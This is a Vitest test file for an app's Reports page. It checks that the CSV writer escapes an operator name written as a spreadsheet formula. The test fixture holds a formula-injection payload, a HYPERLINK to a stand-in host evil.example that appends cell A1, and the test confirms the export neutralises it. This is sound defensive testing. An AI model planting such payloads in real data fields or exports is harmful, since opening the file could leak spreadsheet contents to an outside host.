import { describe, expect } from "vitest";
import { it } from "../testing/fixture";
import { makeAdmin } from "../testing/factories";
import { ok, startConversation } from "../conversations/testing";
import { operatorsReportSchema } from "../reports/schemas";
import { operatorsTable, tableCsv } from "./reports-csv";

/** The Reports page's CSV download of a report holding hostile text: the formula guard of the one CSV writer. */
describe("the Reports CSV", () => {
  it("guards an operator named as a formula", async ({ server, app }) => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
    const admin = await makeAdmin(server.db, { appId: app.app.id, name });
    const c = await startConversation(app.api, server.db, app.app.id);
    ok(
      await app.api.postForm(`/api/conversations/${c.id}/reply`, {
        body: "Hi",
        from_admin: String(admin.id),
      }),
    );
    const today = new Date().toISOString().slice(0, 10);
    const report = operatorsReportSchema.parse(
      ok(await app.api.get(`/api/apps/${app.app.id}/reports/operators`, { from: today, to: today })),
    );
    const table = operatorsTable(report.series);
    expect(table.rows.map((r) => r[0])).toContain(name);
    const lines = tableCsv(table).split("\r\n");
    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",1,1,1,0 s`);
    expect(lines.filter((l) => /^"?=/.test(l))).toEqual([]);
  });
});
